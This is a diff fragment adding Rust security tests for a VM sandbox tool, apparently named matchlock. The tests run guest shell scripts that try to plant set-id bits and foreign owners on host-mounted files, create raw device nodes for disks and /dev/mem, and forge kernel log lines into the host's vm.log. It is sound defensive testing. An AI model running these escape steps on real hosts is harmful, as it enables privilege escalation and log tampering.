+    {
+        leaked.push("a file outside ws changed".into());
+    }
+    vec![Row {
+        attack: "workspace symlinks followed by a later run".into(),
+        tried: later.len(),
+        leaked,
+    }]
+}
+
+/// Set-id bits and owners on the host through a `host_fs` mount.
+fn set_id_bits_and_owners(_: &Hits) -> Vec<Row> {
+    let ws = tempfile::tempdir().unwrap();
+    let p = ws.path();
+    for (name, mode) in [("suid", 0o4755), ("sgid", 0o2755), ("trunc", 0o4755)] {
+        std::fs::write(p.join(name), "#!/bin/sh\necho original\n").unwrap();
+        std::fs::set_permissions(p.join(name), std::fs::Permissions::from_mode(mode)).unwrap();
+    }
+    std::fs::write(p.join("plain"), "x").unwrap();
+    std::fs::create_dir(p.join("dir")).unwrap();
+    let spec = format!("{}:/w:host_fs", p.display());
+    let script = "cd /w; echo 'echo pwned' >> suid; printf x >> sgid; : > trunc; \
+        cp plain new; chmod 4755 new; chmod 6755 plain; chown 4242:4242 plain; \
+        chgrp 4242 suid; chmod g+s dir; mkdir d2; chmod 2775 d2; echo DONE";
+    let o = run(&["run", "--image", BUSYBOX, "-v", &spec, "--", "sh", "-c", script]);
+    assert!(stdout(&o).contains("DONE"), "{}", stderr(&o));
+    let mode = |n: &str| std::fs::metadata(p.join(n)).unwrap().mode() & 0o7777;
+    let mut leaked = Vec::new();
+    for n in ["suid", "sgid", "trunc", "new", "plain"] {
+        if mode(n) & 0o6000 != 0 {
+            leaked.push(format!("{n} kept or gained set-id bits: {:o}", mode(n)));
+        }
+    }
+    for n in ["dir", "d2"] {
+        if mode(n) & 0o2000 != 0 {
+            leaked.push(format!("{n} became setgid: {:o}", mode(n)));
+        }
+    }
+    for n in ["plain", "suid"] {
+        let m = std::fs::metadata(p.join(n)).unwrap();
+        if m.uid() == 4242 || m.gid() == 4242 {
+            leaked.push(format!("{n} was given to 4242: {}:{}", m.uid(), m.gid()));
+        }
+    }
+    vec![Row {
+        attack: "set-id bits and owners on host files".into(),
+        tried: 9,
+        leaked,
+    }]
+}
+
+/// Guest root making device nodes for the disks, memory and console, and writing the kernel
+/// log (which ends up in vm.log on the host).
+fn devices_and_kernel_log(_: &Hits) -> Vec<Row> {
+    let sb = Sandbox::detached(&[], &["sleep", "600"]);
+    let script = "for d in 'b 254 0 vda' 'b 254 16 vdb' 'c 1 1 mem' 'c 1 11 kmsg' 'c 4 64 ttyS0' 'c 5 1 console'; do \
+        set -- $d; mknod /tmp/$4 $1 $2 $3 2>/dev/null; \
+        if head -c 1 /tmp/$4 >/dev/null 2>&1; then echo OPENED-READ $4; fi; \
+        if echo '<0>mlrt-forged-line' 2>/dev/null > /tmp/$4; then echo OPENED-WRITE $4; fi; done; \
+        echo '<0>mlrt-forged-line' > /dev/kmsg 2>/dev/null; echo DONE";
+    let o = sb.exec(&["sh", "-c", script]);
+    let text = stdout(&o);
+    assert!(text.contains("DONE"), "{}", stderr(&o));
+    let mut leaked: Vec<String> = text
+        .lines()
+        .filter(|l| l.starts_with("OPENED"))
+        .map(str::to_string)
+        .collect();
+    let log = home().join("vms").join(&sb.id).join("logs").join("vm.log");
+    if std::fs::read_to_string(&log)
+        .unwrap_or_default()
+        .contains("mlrt-forged-line")
+    {
+        leaked.push("a forged line reached vm.log".into());
+    }
+    vec![Row {
+        attack: "device nodes and the kernel log from the guest".into(),
+        tried: 13,
+        leaked,
+    }]
+}
+
+/// `run ... | head -1`: when the reader goes away, the run must end.
+fn broken_pipe(_: &Hits) -> Vec<Row> {
+    let mut child = ml(&[
+        "run",
+        "--image",
+        BUSYBOX,
+        "--",
+        "sh",
+        "-c",
+        "trap '' PIPE; while :; do echo y; done",
+    ])
+    .stdout(std::process::Stdio::piped())
+    .stderr(std::process::Stdio::null())
+    .spawn()
+    .unwrap();
+    let mut first = [0u8; 2];
+    child
+        .stdout
+        .as_mut()
+        .unwrap()
+        .read_exact(&mut first)
+        .unwrap();
+    drop(child.stdout.take());
+    let ended = wait_until(Duration::from_secs(60), || {
+        child.try_wait().ok().flatten().is_some()
+    });
+    let mut leaked = Vec::new();
+    if !ended {
+        let _ = child.kill();
+        leaked.push("the run outlived its reader by a minute".into());
+    }
+    let _ = child.wait();
+    vec![Row {
+        attack: "a run whose reader went away".into(),
+        tried: 1,
+        leaked,
+    }]
+}
+
+/// What a sandbox leaves on the host: sockets after `kill`, and image files other local users
+/// could read.
+fn host_side_leftovers(_: &Hits) -> Vec<Row> {
+    let sb = Sandbox::detached(&[], &["sleep", "600"]);
+    let dir = home().join("vms").join(&sb.id);
+    ok(run(&["kill", &sb.id]));
+    let mut leaked: Vec<String> = std::fs::read_dir(&dir)
+        .map(|d| {
+            d.flatten()
+                .filter(|e| e.file_name().to_string_lossy().ends_with(".sock"))
+                .map(|e| format!("{} left after kill", e.path().display()))
+                .collect()
+        })
+        .unwrap_or_default();
+    let mut images = 0;
+    let cache = images_dir();
+    let mut stack = vec![cache.clone()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let m = e.metadata().unwrap();
+            if m.is_dir() {
+                stack.push(e.path());
+            } else if e.file_name().to_string_lossy().ends_with(".ext4") {
+                images += 1;
+                if m.mode() & 0o004 != 0 {
+                    leaked.push(format!("{} is world-readable", e.path().display()));
+                }
+            }
+        }
+    }
+    assert!(images > 0, "no image files under {}", cache.display());
+    let tried = 2 + images;
+    vec![Row {
+        attack: "sockets after kill, world-readable images".into(),
+        tried,
+        leaked,
+    }]
+}
+
+/// Where `matchlock` keeps pulled and imported images (`$MATCHLOCK_CACHE_DIR/images`, else
+/// `~/.cache/matchlock/images`).
+fn images_dir() -> std::path::PathBuf {
+    match std::env::var_os("MATCHLOCK_CACHE_DIR").filter(|d| !d.is_empty()) {
+        Some(d) => std::path::PathBuf::from(d).join("images"),
+        None => Path::new(&std::env::var_os("HOME").unwrap_or_else(|| "/root".into()))
+            .join(".cache/matchlock/images"),
+    }
+}
